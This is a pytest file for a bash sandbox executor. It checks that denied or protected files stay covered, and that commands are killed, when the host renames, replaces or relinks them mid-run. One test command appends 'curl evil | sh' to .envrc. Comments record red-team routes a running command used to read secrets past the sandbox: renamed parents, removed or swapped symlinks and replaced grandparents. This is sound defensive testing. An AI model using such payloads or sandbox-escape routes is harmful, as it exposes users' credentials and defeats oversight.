"""Covers that hold while a command runs: the host replaces a name covered where it lies.

A mount on a dentry is detached when the host renames over it or deletes it, so a command
still running would see the new file uncovered. The executor watches those names and stops
the command at once; each test replaces the name from the host while a background command
works on it, then checks the host's file from outside.

The commands act only on the host's "go" (half a second after the change): these tests
prove the stop, not a race against it. The race is real and measured (the executor reads
the event within a millisecond or two; `docs/threat-model-coverage.md`, rows 4 and 5).
"""

from __future__ import annotations

import asyncio
import os
import time
from pathlib import Path

import pytest

from bash_sandbox import SandboxBashExecutor
from bash_sandbox.linux.cover_watch import CoverWatch
from bash_seam import BashExecRequest, BashProcess
from tests.sandbox.conftest import ExecutorFactory


def _replace(path: Path, text: str) -> None:
    """An atomic save, as editors and credential helpers do it."""
    tmp = path.with_name(path.name + ".new")
    tmp.write_text(text)
    os.rename(tmp, path)


async def _wait_for(predicate: object, timeout: float = 20.0) -> None:
    deadline = time.monotonic() + timeout
    while not predicate():  # type: ignore[operator]
        if time.monotonic() > deadline:
            raise AssertionError("timed out")
        await asyncio.sleep(0.05)


async def _go(workspace: Path) -> None:
    """Let the command act, once the executor has had half a second to stop it."""
    await asyncio.sleep(0.5)
    (workspace / "go").touch()


async def test_a_protected_file_replaced_by_the_host_is_never_written_by_a_running_command(
    make_executor: ExecutorFactory, workspace: Path
) -> None:
    envrc = workspace / ".envrc"
    envrc.write_text("export A=1\n")
    ex = make_executor(mode="workspace-write", protected_paths=(".git/hooks", ".envrc"))
    proc = await ex.start(
        ex.resolve(
            BashExecRequest(
                command="echo tick > ticks; while [ ! -e go ]; do sleep 0.05; done; "
                "for i in $(seq 100); do echo 'curl evil | sh' >> .envrc; sleep 0.1; done",
                workdir=str(workspace),
            )
        )
    )
    await _wait_for((workspace / "ticks").exists)
    assert envrc.read_text() == "export A=1\n"  # the cover holds before the replacement
    _replace(envrc, "export A=2\n")
    await _go(workspace)
    await asyncio.wait_for(proc.wait(), 20)
    await asyncio.sleep(0.5)  # a command that survived would append again meanwhile
    assert envrc.read_text() == "export A=2\n"
    assert proc.signal == "SIGKILL"
    assert proc.sandbox is not None
    assert any(str(envrc) in w and "stopped" in w for w in proc.sandbox.warnings)


async def _read_while_replaced(
    ex: SandboxBashExecutor, workspace: Path, secret: Path
) -> BashProcess:
    """A background command reads the denied ``secret`` (in ``workspace``) before and after
    the host replaces it; the process, once it ended."""
    proc = await ex.start(
        ex.resolve(
            BashExecRequest(
                command="cat secret.txt; echo tick > ticks; while [ ! -e go ]; do sleep 0.05; "
                "done; for i in $(seq 100); do cat secret.txt 2>/dev/null; sleep 0.1; done",
                workdir=str(workspace),
            )
        )
    )
    await _wait_for((workspace / "ticks").exists)
    _replace(secret, "NEW-SECRET\n")
    await _go(workspace)
    await asyncio.wait_for(proc.wait(), 20)
    return proc


async def test_a_denied_file_replaced_by_the_host_is_never_read_by_a_running_command(
    make_executor: ExecutorFactory, workspace: Path
) -> None:
    secret = workspace / "secret.txt"
    secret.write_text("OLD-SECRET\n")
    ex = make_executor(mode="workspace-write", deny_read=(str(secret),))
    proc = await _read_while_replaced(ex, workspace, secret)
    output = proc.read_output().delta
    assert "SECRET" not in output
    assert proc.signal == "SIGKILL"
    assert proc.sandbox is not None
    assert any(str(secret) in w for w in proc.sandbox.warnings)


@pytest.mark.parametrize("earlier_spawns", [0, 2])
@pytest.mark.parametrize("mode", ["read-only", "workspace-write"])
async def test_a_denied_name_the_host_creates_while_a_command_runs_is_never_read(
    make_executor: ExecutorFactory, workspace: Path, mode: str, earlier_spawns: int
) -> None:
    """Also after earlier spawns: the survey they kept (and the missing names it keeps
    with it) still names this one."""
    later = workspace / "conf" / "token"
    ex = make_executor(mode=mode, deny_read=(str(later),))
    for _ in range(earlier_spawns):
        await ex.run(ex.resolve(BashExecRequest(command="true", workdir=str(workspace))))
    proc = await ex.start(
        ex.resolve(
            BashExecRequest(
                command="while [ ! -e go ]; do sleep 0.05; done; "
                "for i in $(seq 100); do cat conf/token 2>/dev/null; sleep 0.1; done",
                workdir=str(workspace),
            )
        )
    )
    await asyncio.sleep(0.5)
    # The missing parent made first, then the secret in it. Inside a writable root the
    # parent is already there: a placeholder held while the command runs, covered unreadable.
    later.parent.mkdir(exist_ok=mode == "workspace-write")
    later.write_text("TOKEN-123\n")
    await _go(workspace)
    if mode == "read-only":
        # Outside every root the directory is shown as it was when the command started (a
        # shadow): the new entry never appears, so nothing needs stopping.
        await asyncio.sleep(1.0)
        proc.kill()
        await asyncio.wait_for(proc.wait(), 20)
        assert proc.sandbox is not None
        assert not any("stopped" in w for w in proc.sandbox.warnings)
    else:
        # Inside a writable root it is covered where it lies: its creation stops the command.
        await asyncio.wait_for(proc.wait(), 20)
        assert proc.signal == "SIGKILL"
    assert "TOKEN-123" not in proc.read_output().delta
    assert later.read_text() == "TOKEN-123\n"  # the host's, kept (no placeholder now)


async def test_unrelated_host_changes_and_settled_commands_are_left_alone(
    make_executor: ExecutorFactory, workspace: Path
) -> None:
    envrc = workspace / ".envrc"
    envrc.write_text("x\n")
    ex = make_executor(mode="workspace-write", protected_paths=(".git/hooks", ".envrc"))
    proc = await ex.start(
        ex.resolve(BashExecRequest(command="sleep 1.5; echo done", workdir=str(workspace)))
    )
    await asyncio.sleep(0.3)
    (workspace / "other.txt").write_text("host edit\n")
    _replace(workspace / "other.txt", "host edit 2\n")
    await asyncio.wait_for(proc.wait(), 20)
    assert proc.exit_code == 0 and proc.read_output().delta == "done\n"
    assert proc.sandbox is not None
    assert not any("stopped" in w for w in proc.sandbox.warnings)
    # Once settled, its ticket is gone: replacing the name now stops nothing.
    _replace(envrc, "y\n")
    quick = await ex.run(ex.resolve(BashExecRequest(command="cat .envrc", workdir=str(workspace))))
    assert quick.exit_code == 0 and quick.stdout.text == "y\n"


@pytest.mark.parametrize("helper", [True, False], ids=["helper", "no-helper"])
def test_an_executors_second_event_loop_still_stops_a_command_whose_cover_was_replaced(
    backend: str, workspace: Path, helper: bool
) -> None:
    """A harness that calls `asyncio.run` per task: the executor's cover watch (and its
    helper's answers) are read on the loop that runs now, not the first one."""
    secret = workspace / "secret.txt"
    secret.write_text("OLD-SECRET\n")
    ex = SandboxBashExecutor(
        backend=backend,
        workspace_root=str(workspace),
        mode="workspace-write",
        deny_read=(str(secret),),
        grace_ms=500,
        spawn_helper=helper,
    )

    async def first() -> None:  # the watch is made on this loop, which then ends
        result = await ex.run(ex.resolve(BashExecRequest(command="true", workdir=str(workspace))))
        assert result.exit_code == 0

    async def second() -> tuple[str | None, str]:
        try:
            proc = await _read_while_replaced(ex, workspace, secret)
            return proc.signal, proc.read_output().delta
        finally:
            await ex.aclose()

    asyncio.run(first())
    signal, output = asyncio.run(second())
    assert "SECRET" not in output
    assert signal == "SIGKILL"


def test_the_watch_reports_a_rename_over_a_name_until_released_and_forgets_a_removed_dir(
    tmp_path: Path,
) -> None:
    name = tmp_path / "f"
    name.write_text("a")
    watch = CoverWatch()
    try:
        hits: list[str] = []
        ticket = watch.watch([str(name), str(tmp_path / "missing" / "deep")], hits.append)
        (tmp_path / "unrelated").write_text("b")
        watch.read_events()
        assert hits == []
        _replace(name, "c")
        (tmp_path / "missing").mkdir()
        watch.read_events()
        assert sorted(hits) == sorted([str(name), str(tmp_path / "missing" / "deep")])
        watch.release(ticket)
        assert ticket.dirs == (str(tmp_path),)
        _replace(name, "d")
        watch.read_events()
        assert len(hits) == 2
        # A watched directory that disappears takes its watch with it (IN_IGNORED).
        gone = tmp_path / "gone"
        gone.mkdir()
        again = watch.watch([str(gone / "x")], hits.append)
        assert str(gone) in watch._wd_of
        gone.rmdir()
        watch.read_events()
        assert str(gone) not in watch._wd_of
        assert hits[2:] == [str(gone / "x")]  # its directory removed: the path is not it
        watch.release(again)
        # A watched directory renamed away: the names below it have moved on, and a later
        # watch of the same path is on the directory that is there now.
        moved = tmp_path / "moved"
        (moved / "sub").mkdir(parents=True)
        third = watch.watch([str(moved / "sub" / "name")], hits.append)
        os.rename(moved / "sub", tmp_path / "elsewhere")
        watch.read_events()
        assert hits[-1] == str(moved / "sub" / "name")
        watch.release(third)
        (moved / "sub").mkdir()
        fourth = watch.watch([str(moved / "sub" / "name")], hits.append)
        (moved / "sub" / "name").write_text("new")
        watch.read_events()
        assert hits[-1] == str(moved / "sub" / "name") and len(hits) == 5
        watch.release(fourth)
    finally:
        watch.close()


@pytest.mark.parametrize("replaced", ["directory", "parent"])
@pytest.mark.parametrize("mode", ["read-only", "workspace-write"])
async def test_a_shadowed_directory_the_host_replaces_never_shows_the_new_secret(
    make_executor: ExecutorFactory, workspace: Path, tmp_path: Path, mode: str, replaced: str
) -> None:
    # A denied name outside the roots is hidden by a snapshot of its directory: a mount on
    # that directory. The host's `rm -rf` (or `mv`) of it, or of a directory above it, and
    # a new one at the path, left the running command reading the new secret (red team:
    # clearing a cache directory and logging in again during a background command).
    cache = tmp_path / "home" / ".cache"
    secret = cache / "tool" / "token"
    secret.parent.mkdir(parents=True)
    secret.write_text("OLD-SECRET\n")
    ex = make_executor(mode=mode, deny_read=(str(secret),))
    proc = await ex.start(
        ex.resolve(
            BashExecRequest(
                command="while [ ! -e go ]; do sleep 0.05; done; "
                f"for i in $(seq 60); do cat {secret} 2>/dev/null; sleep 0.1; done",
                workdir=str(workspace),
            )
        )
    )
    await asyncio.sleep(0.5)
    gone = secret.parent if replaced == "directory" else cache
    os.rename(gone, gone.with_name(gone.name + ".old"))
    secret.parent.mkdir(parents=True)
    secret.write_text("NEW-SECRET\n")
    await _go(workspace)
    await asyncio.wait_for(proc.wait(), 30)
    assert "SECRET" not in proc.read_output().delta
    assert proc.signal == "SIGKILL"
    assert proc.sandbox is not None
    assert any("stopped" in w for w in proc.sandbox.warnings), proc.sandbox.warnings


async def test_a_denied_files_parent_the_command_renames_stays_denied_next_time(
    make_executor: ExecutorFactory, workspace: Path
) -> None:
    # Covered where it lies in a root, a denied file's cover moved with its parent when the
    # command renamed that: the next call found no `config/secret.env` and read the file
    # under its new path (red team). The directories above it are pinned now.
    secret = workspace / "config" / "secret.env"
    secret.parent.mkdir()
    secret.write_text("DB_PASSWORD=hunter2\n")
    ex = make_executor(mode="workspace-write", deny_read=(str(secret),))
    first = await ex.run(
        ex.resolve(BashExecRequest(command="mv config c2", workdir=str(workspace)))
    )
    assert first.exit_code != 0
    assert sorted(os.listdir(workspace)) == ["config"]  # the host: nothing moved
    second = await ex.run(
        ex.resolve(
            BashExecRequest(command="cat c2/secret.env config/secret.env", workdir=str(workspace))
        )
    )
    assert "hunter2" not in second.stdout.text + second.stderr.text
    # Ordinary work beside it still goes on.
    third = await ex.run(
        ex.resolve(BashExecRequest(command="echo x > config/other", workdir=str(workspace)))
    )
    assert third.exit_code == 0 and (secret.parent / "other").read_text() == "x\n"


async def _reads_until_stopped(
    ex: SandboxBashExecutor, workspace: Path, secret: Path
) -> BashProcess:
    return await ex.start(
        ex.resolve(
            BashExecRequest(
                command="while [ ! -e go ]; do sleep 0.05; done; "
                f"for i in $(seq 60); do cat {secret} 2>/dev/null; sleep 0.1; done",
                workdir=str(workspace),
            )
        )
    )


@pytest.mark.parametrize("mode", ["read-only", "workspace-write"])
async def test_a_link_on_the_way_the_host_swaps_never_shows_the_new_secret(
    make_executor: ExecutorFactory, workspace: Path, tmp_path: Path, mode: str
) -> None:
    # agenix and sops-nix swap a generation link (`cur -> gen2`) on every rebuild: the
    # path then led to a directory nothing covered (red team). Every link on the way to a
    # denied name is watched.
    (tmp_path / "gen1" / "app").mkdir(parents=True)
    (tmp_path / "gen1" / "app" / "token").write_text("OLD-SECRET\n")
    (tmp_path / "cur").symlink_to("gen1")
    secret = tmp_path / "cur" / "app" / "token"
    ex = make_executor(mode=mode, deny_read=(str(secret),))
    proc = await _reads_until_stopped(ex, workspace, secret)
    await asyncio.sleep(0.5)
    (tmp_path / "gen2" / "app").mkdir(parents=True)
    (tmp_path / "gen2" / "app" / "token").write_text("NEW-SECRET\n")
    (tmp_path / "cur.new").symlink_to("gen2")
    os.rename(tmp_path / "cur.new", tmp_path / "cur")
    await _go(workspace)
    await asyncio.wait_for(proc.wait(), 30)
    assert "SECRET" not in proc.read_output().delta
    assert proc.signal == "SIGKILL"


async def test_a_covered_names_grandparent_the_host_replaces_never_shows_the_new_secret(
    make_executor: ExecutorFactory, workspace: Path, tmp_path: Path
) -> None:
    # A directory too large to shadow gets a cover on the denied file itself; only its
    # parent was watched, so the host's `mv` of a grandparent and a new tree at the old
    # path showed the new secret (red team).
    big = tmp_path / "srv" / "app" / "conf"
    big.mkdir(parents=True)
    for i in range(600):
        (big / f"f{i}").write_text("x")
    secret = big / "secret"
    secret.write_text("OLD-SECRET\n")
    ex = make_executor(mode="read-only", deny_read=(str(secret),))
    proc = await _reads_until_stopped(ex, workspace, secret)
    await asyncio.sleep(0.5)
    os.rename(tmp_path / "srv" / "app", tmp_path / "srv" / "app.old")
    big.mkdir(parents=True)
    secret.write_text("NEW-SECRET\n")
    await _go(workspace)
    await asyncio.wait_for(proc.wait(), 30)
    assert "SECRET" not in proc.read_output().delta
    assert proc.signal == "SIGKILL"


async def test_a_denied_link_the_command_removes_still_denies_what_it_led_to(
    make_executor: ExecutorFactory, workspace: Path
) -> None:
    # `.env -> config/env.local`, `.env` denied: the command removed the link and the next
    # call read `config/env.local` under its own name (red team). What a name led to stays
    # denied for the executor's later calls.
    (workspace / "config").mkdir()
    (workspace / "config" / "env.local").write_text("DB_PASSWORD=hunter2\n")
    (workspace / ".env").symlink_to("config/env.local")
    ex = make_executor(mode="workspace-write", deny_read=(str(workspace / ".env"),))
    await ex.run(ex.resolve(BashExecRequest(command="rm -f .env", workdir=str(workspace))))
    assert not (workspace / ".env").exists()  # gone (the watch on the link stops that call)
    second = await ex.run(
        ex.resolve(BashExecRequest(command="cat config/env.local", workdir=str(workspace)))
    )
    assert "hunter2" not in second.stdout.text + second.stderr.text
